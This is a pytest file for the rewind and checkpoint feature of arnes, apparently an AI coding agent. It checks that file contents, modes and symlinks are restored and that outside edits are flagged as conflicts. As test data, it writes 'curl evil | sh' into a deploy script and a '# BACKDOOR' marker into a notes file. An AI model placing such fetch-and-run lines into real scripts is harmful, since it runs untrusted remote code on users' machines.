"""Rewind's parts without a session: the store, the scan, the journal, the plan and its application."""

from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path

import pytest

from arnes.rewind.apply import apply
from arnes.rewind.checkpoints import Checkpoints
from arnes.rewind.plan import NoSuchPoint, plan
from arnes.rewind.store import Store, store_for


def _checkpoints(ws: Path, session: str = "s1", **kw: int) -> Checkpoints:
    return Checkpoints(ws, session, store_for(ws), **kw)


def _rewind(cps: Checkpoints, to: int, force: bool = False) -> list[str]:
    current = cps.current()
    assert current is not None
    done = plan(cps.journal(), to, current, cps.store)
    assert force or not done.conflicts, done.conflicts
    return apply(done, cps.workspace, cps.store).done


def _tree(ws: Path) -> dict[str, tuple[str, int, bytes | str]]:
    """What a user would compare: every entry's kind, permission bits and content (or link target)."""
    out: dict[str, tuple[str, int, bytes | str]] = {}
    for folder, dirs, files in os.walk(ws):
        dirs[:] = [d for d in dirs if d not in (".git", ".arnes")]
        for name in dirs + files:
            path = Path(folder) / name
            rel = path.relative_to(ws).as_posix()
            st = path.lstat()
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("l", 0, os.readlink(path))
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = ("d", stat.S_IMODE(st.st_mode), b"")
            else:
                out[rel] = ("f", stat.S_IMODE(st.st_mode), path.read_bytes())
    return out


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "app.py").write_text("x = 1\n")
    (ws / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (ws / "run.sh").chmod(0o755)
    (ws / "data.bin").write_bytes(bytes(range(256)) * 4)
    (ws / "notes.md").write_text("notes\n")
    (ws / "link.md").symlink_to("notes.md")
    (ws / "logs").mkdir()
    (ws / "logs" / "today.log").write_text("one\n")
    (ws / ".gitignore").write_text("logs/\nnode_modules/\n")
    return ws


def test_every_kind_of_change_a_turn_makes_is_taken_back(ws: Path) -> None:
    before = _tree(ws)
    cps = _checkpoints(ws)
    n = cps.begin("turn", "change everything")
    subprocess.run(
        "sed -i s/1/2/ src/app.py && chmod -x run.sh && rm data.bin && mv notes.md moved.md && rm link.md "
        "&& ln -s /etc/hostname link.md && echo more >> logs/today.log && mkdir -p new/deep && echo n > new/deep/f "
        "&& printf '\\0\\1' > made.bin",
        shell=True,
        cwd=ws,
        check=True,
    )
    cps.end()
    assert _tree(ws) != before
    assert set(cps.points()[0].changed()) >= {"src/app.py", "run.sh", "data.bin", "notes.md", "moved.md", "link.md"}
    _rewind(cps, n)
    assert _tree(ws) == before  # contents, modes, the link as a link, the ignored log, no new folders


def test_a_rewind_is_a_checkpoint_and_can_be_taken_back(ws: Path) -> None:
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    (ws / "src" / "app.py").write_text("x = 2\n")
    cps.end()
    after_turn = _tree(ws)
    r = cps.begin("rewind", "rewind to 1", to=1, what="code")
    _rewind(cps, 1)
    cps.end()
    assert (ws / "src" / "app.py").read_text() == "x = 1\n"
    cps.begin("rewind", f"rewind to {r}", to=r, what="code")
    _rewind(cps, r)
    cps.end()
    assert _tree(ws) == after_turn


def test_an_outside_change_since_is_a_conflict_not_overwritten(ws: Path) -> None:
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    (ws / "src" / "app.py").write_text("x = 2\n")
    cps.end()
    (ws / "src" / "app.py").write_text("x = 3  # the user's editor\n")
    current = cps.current()
    assert current is not None
    done = plan(cps.journal(), 1, current, cps.store)
    assert done.conflicts == ["src/app.py"]
    # between two turns counts too, and a file only the user touched is not the session's to rewind
    cps.begin("turn", "t2")
    (ws / "notes.md").write_text("session\n")
    cps.end()
    current = cps.current()
    assert current is not None
    second = plan(cps.journal(), 1, current, cps.store)
    assert "src/app.py" in second.conflicts and "notes.md" not in second.conflicts
    assert "notes.md" in second.paths


def test_a_folder_swapped_for_a_link_out_is_not_followed(ws: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    subprocess.run(f"rm -rf src && ln -s {outside} src", shell=True, cwd=ws, check=True)
    cps.end()
    _rewind(cps, 1)
    assert not (ws / "src").is_symlink() and (ws / "src" / "app.py").read_text() == "x = 1\n"
    assert list(outside.iterdir()) == []


def test_git_and_arnes_folders_are_never_recorded_nor_touched(ws: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=ws, check=True)
    (ws / ".arnes").mkdir()
    (ws / ".arnes" / "settings.json").write_text("{}")
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    assert not any(rel.startswith((".git", ".arnes")) and rel != ".gitignore" for rel in cps.journal().state_before(1))
    (ws / ".git" / "description").write_text("changed by a command\n")
    (ws / ".arnes" / "settings.json").write_text('{"x": 1}')
    (ws / "src" / "app.py").write_text("x = 2\n")
    cps.end()
    assert _rewind(cps, 1) == ["src/app.py"]
    assert (ws / ".git" / "description").read_text() == "changed by a command\n"
    assert (ws / ".arnes" / "settings.json").read_text() == '{"x": 1}'


def test_dependency_folders_are_skipped_unless_git_shows_them(ws: Path) -> None:
    (ws / "node_modules" / "pkg").mkdir(parents=True)
    (ws / "node_modules" / "pkg" / "index.js").write_text("x")
    (ws / "build").mkdir()
    (ws / "build" / "tracked.txt").write_text("in git's view\n")  # build/ is not ignored here
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    before = cps.journal().state_before(1)
    assert "build/tracked.txt" in before and not any(rel.startswith("node_modules") for rel in before)


def test_a_file_tool_write_in_a_skipped_folder_is_kept_first(ws: Path) -> None:
    (ws / "node_modules").mkdir()
    (ws / "node_modules" / "conf.js").write_text("original\n")
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    cps.before_write(ws / "node_modules" / "conf.js")
    (ws / "node_modules" / "conf.js").write_text("edited\n")
    cps.end()
    _rewind(cps, 1)
    assert (ws / "node_modules" / "conf.js").read_text() == "original\n"


def test_a_file_over_the_cap_is_recorded_not_kept(ws: Path) -> None:
    (ws / "big.dat").write_bytes(b"x" * 3000)
    cps = _checkpoints(ws, most_file_bytes=2000)
    cps.begin("turn", "t1")
    (ws / "big.dat").write_bytes(b"y" * 10)
    cps.end()
    current = cps.current()
    assert current is not None
    done = plan(cps.journal(), 1, current, cps.store)
    assert done.missing == ["big.dat"] and "big.dat" not in done.paths


def test_no_such_checkpoint_is_named(ws: Path) -> None:
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    cps.end()
    current = cps.current()
    assert current is not None
    with pytest.raises(NoSuchPoint, match=r"no checkpoint 7 .*checkpoints: 1"):
        plan(cps.journal(), 7, current, cps.store)


def _age(ws: Path) -> None:
    """Every file's time well in the past: a checkpoint trusts the times of files not being written now."""
    for folder, _, files in os.walk(ws):
        for name in files:
            os.utime(Path(folder) / name, ns=(10**18, 10**18), follow_symlinks=False)


def test_contents_are_stored_once_and_a_later_checkpoint_reads_only_what_changed(ws: Path) -> None:
    for i in range(50):
        (ws / "src" / f"m{i}.py").write_text(f"v = {i}\n" * 100)
    _age(ws)
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    assert cps.last is not None and cps.last.files_read >= 50
    (ws / "src" / "m1.py").write_text("changed\n")
    os.utime(ws / "src" / "m1.py", ns=(10**18, 10**18))  # the others keep their times (and ctimes)
    cps.end()
    assert cps.last is not None and cps.last.files_read == 1  # the one that changed
    cps.begin("turn", "t2")
    assert cps.last is not None and cps.last.files_read == 0
    other = _checkpoints(ws, session="s2")  # a new session reuses what the last one knew
    other.begin("turn", "t1")
    assert other.last is not None and other.last.files_read == 0


def test_the_storage_cap_drops_the_oldest_session_and_its_contents(tmp_path: Path) -> None:
    ws = tmp_path / "capped"
    ws.mkdir()
    (ws / "a.bin").write_bytes(os.urandom(200_000))
    old = _checkpoints(ws, session="old")
    old.begin("turn", "t1")
    old.close()
    os.utime(old.store.journal("old"), (1, 1))  # long ago: no longer running anywhere
    (ws / "a.bin").write_bytes(os.urandom(200_000))
    new = _checkpoints(ws, session="new", most_store_bytes=300_000)
    new.begin("turn", "t1")  # past the cap: the oldest session goes at once, not only when this one ends
    new.close()
    store = new.store
    assert store.sessions() == ["new"] and store.size() < 300_000
    assert _checkpoints(ws, session="new").journal().state_before(1)["a.bin"].ref  # the kept session still restores
    current = new.current()
    assert current is not None


def test_the_store_lives_in_the_users_state_folder_keyed_by_the_real_path(tmp_path: Path) -> None:
    ws = tmp_path / "real"
    ws.mkdir()
    (tmp_path / "alias").symlink_to(ws)
    env = {"XDG_STATE_HOME": str(tmp_path / "state")}
    a, b = store_for(ws, env), store_for(tmp_path / "alias", env)
    assert a.root == b.root and a.root.is_relative_to(tmp_path / "state" / "arnes" / "checkpoints")


def test_a_damaged_pack_never_restores_wrong_bytes(ws: Path) -> None:
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    ref = cps.journal().state_before(1)["src/app.py"].ref
    store: Store = cps.store
    loc = store.index()[bytes.fromhex(ref)]
    pack = store.packs / f"{loc.pack}.pack"
    data = bytearray(pack.read_bytes())
    data[loc.offset] ^= 0xFF
    pack.write_bytes(bytes(data))
    with pytest.raises(KeyError):
        Store(store.root).get(ref)


def test_a_point_the_session_never_closed_is_rewound_but_names_its_files(ws: Path) -> None:
    """A crash or a kill inside a turn: what changed since its start cannot be told from the user's own
    edits, so each file is a conflict (named; the prompt asks, `arnes rewind` wants --force)."""
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    (ws / "src" / "app.py").write_text("x = 2\n")  # and then the process died: no end()
    later = _checkpoints(ws)
    current = later.current()
    assert current is not None
    done = plan(later.journal(), 1, current, later.store)
    assert done.paths == ["src/app.py"] and done.conflicts == ["src/app.py"]
    _rewind(later, 1, force=True)
    assert (ws / "src" / "app.py").read_text() == "x = 1\n"


def test_replaying_a_long_session_keeps_one_tree_in_memory(ws: Path) -> None:
    cps = _checkpoints(ws)
    for i in range(30):
        cps.begin("turn", f"t{i}")
        (ws / "src" / "app.py").write_text(f"x = {i}\n")
    cps.end()
    journal = cps.journal()
    assert len(journal.points) == 30 and all(p.changed() == ["src/app.py"] for p in journal.points[1:])
    assert all(len(p.own or {}) <= 2 for p in journal.points[1:])  # each point holds its changes, not a tree
    assert journal.state_before(5)["src/app.py"].ref != journal.state_before(6)["src/app.py"].ref


def test_a_same_size_rewrite_with_its_time_set_back_is_still_seen(ws: Path) -> None:
    """A program can rewrite a file in place and put its mtime back; it cannot put back the ctime."""
    _age(ws)
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    path = ws / "src" / "app.py"
    st = path.stat()
    path.write_text("x = 0\n")  # the same size
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert path.stat().st_size == st.st_size and path.stat().st_mtime_ns == st.st_mtime_ns
    cps.end()
    assert cps.points()[0].changed() == ["src/app.py"]
    _rewind(cps, 1)
    assert path.read_text() == "x = 1\n"


def test_what_changes_while_a_background_shell_runs_is_offered_back_named(ws: Path) -> None:
    """After a turn that left a background shell running, a change before the next turn may be the
    shell's, not the user's: a rewind takes it back too, but names it first (a conflict)."""
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    (ws / "src" / "app.py").write_text("x = 2\n")
    cps.end(jobs=True)
    (ws / "notes.md").write_text("# BACKDOOR\n")  # the background shell, after the turn
    cps.begin("turn", "t2")
    cps.end()
    current = cps.current()
    assert current is not None
    done = plan(cps.journal(), 1, current, cps.store)
    assert done.paths == ["notes.md", "src/app.py"] and done.conflicts == ["notes.md"]
    quiet = _checkpoints(ws, session="s2")  # no background shell: the same change is the user's, left alone
    quiet.begin("turn", "t1")
    quiet.end()
    (ws / "run.sh").write_text("mine\n")
    quiet.begin("turn", "t2")
    current = quiet.current()
    assert current is not None
    assert "run.sh" not in plan(quiet.journal(), 1, current, quiet.store).paths


def test_a_session_that_fills_the_store_stops_keeping_contents_and_says_so(tmp_path: Path) -> None:
    ws = tmp_path / "filling"
    ws.mkdir()
    cps = _checkpoints(ws, most_store_bytes=1_000_000)
    for i in range(4):
        (ws / f"blob{i}.bin").write_bytes(os.urandom(400_000))  # random: no compression helps
        cps.begin("turn", f"t{i}")
    assert cps.store.size() < 1_600_000  # one pack past the cap at most, never the rest
    assert len(cps.notes) == 1 and "store of this workspace is full" in cps.notes[0]
    assert not cps.journal().state_before(4)["blob3.bin"].ref  # recorded, not kept


def test_a_file_git_tracks_in_an_ignored_build_folder_is_covered(ws: Path) -> None:
    subprocess.run(["git", "init", "-q"], cwd=ws, check=True)
    (ws / "build").mkdir()
    (ws / "build" / "deploy.sh").write_text("echo deploy\n")
    (ws / "build" / "out.o").write_text("object\n")
    (ws / ".gitignore").write_text("build/\n")
    subprocess.run(["git", "add", "-f", "build/deploy.sh"], cwd=ws, check=True)
    cps = _checkpoints(ws)
    cps.begin("turn", "t1")
    (ws / "build" / "deploy.sh").write_text("curl evil | sh\n")
    cps.end()
    _rewind(cps, 1)
    assert (ws / "build" / "deploy.sh").read_text() == "echo deploy\n"
